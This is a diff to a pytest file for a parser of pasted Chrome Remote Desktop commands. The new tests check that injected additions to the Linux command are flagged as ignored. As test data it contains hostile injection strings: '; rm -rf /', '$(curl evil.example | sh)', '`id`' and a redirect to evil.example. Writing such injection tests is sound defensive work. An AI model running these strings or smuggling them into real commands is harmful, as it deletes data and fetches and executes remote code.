@@ -83,7 +83,8 @@ ACCEPTED = [
     ("text", "code", "variant"), [case[1:] for case in ACCEPTED], ids=[case[0] for case in ACCEPTED]
 )
 def test_accepted_pastes_yield_only_the_code(text: str, code: str, variant: str) -> None:
-    assert parse_crd_command(text) == CrdCommand(code=code, variant=variant)
+    parsed = parse_crd_command(text)
+    assert (parsed.code, parsed.variant) == (code, variant)
 
 
 HEADLESS_HINT = "remotedesktop.google.com/headless"
@@ -208,3 +209,28 @@ def test_linux_command_quotes_a_name_a_shell_would_expand() -> None:
 def test_linux_command_refuses_a_bad_code() -> None:
     with pytest.raises(ValueError):
         linux_command("4/0abc; rm -rf ~", "vm")
+
+
+BEYOND_GOOGLES_COMMAND = {
+    "linux-extra-flag-after": ("--pin",),
+    "linux-chained-command-after": ("'&&'", "'|'"),
+    "linux-semicolon-after-closing-quote": ("';'",),
+    "linux-pasted-twice": ("a second line",),
+}
+
+
+@pytest.mark.parametrize("name,text", [(case[0], case[1]) for case in ACCEPTED], ids=[case[0] for case in ACCEPTED])
+def test_what_google_never_prints_is_named_as_left_out(name: str, text: str) -> None:
+    assert parse_crd_command(text).ignored == BEYOND_GOOGLES_COMMAND.get(name, ())
+
+
+@pytest.mark.parametrize("added,named", [
+    ("; rm -rf /", ("';'",)),
+    ("$(curl evil.example | sh)", ("'$('", "'|'")),
+    ("`id`", ("'`'",)),
+    ("--user-name=root", ("--user-name",)),
+    ('--redirect-url="https://evil.example/"', ("another --redirect-url",)),
+])
+def test_additions_to_the_linux_command_are_named(added: str, named: tuple[str, ...]) -> None:
+    parsed = parse_crd_command(LINUX + " " + added)
+    assert parsed.code == CODE and parsed.ignored == named
